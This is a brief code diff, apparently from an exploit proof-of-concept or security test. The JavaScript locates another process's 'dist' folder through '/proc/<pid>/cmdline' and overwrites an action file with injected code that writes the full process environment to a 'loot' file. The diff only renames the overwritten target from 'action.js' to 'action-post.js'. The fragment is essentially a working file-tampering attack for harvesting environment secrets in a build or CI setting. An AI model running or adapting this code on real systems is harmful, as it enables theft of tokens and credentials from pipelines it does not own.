@@ -176,7 +176,7 @@ const looking = setInterval(() => {
 		clearInterval(looking);
 		const dist = /([^\\0]*\\/dist)\\/generator\\.cjs/.exec(readFileSync('/proc/' + pid + '/cmdline', 'latin1'))[1];
 		try {
-			writeFileSync(dist + '/action.js', "require('node:fs').appendFileSync('${LOOT}/post.txt', 'post ' + JSON.stringify(process.env))");
+			writeFileSync(dist + '/action-post.js', "require('node:fs').appendFileSync('${LOOT}/post.txt', 'post ' + JSON.stringify(process.env))");
 			appendFileSync('${LOOT}/reach.txt', 'rewrote\\n');
 		} catch (error) { appendFileSync('${LOOT}/reach.txt', error.code + '\\n'); }
 	}
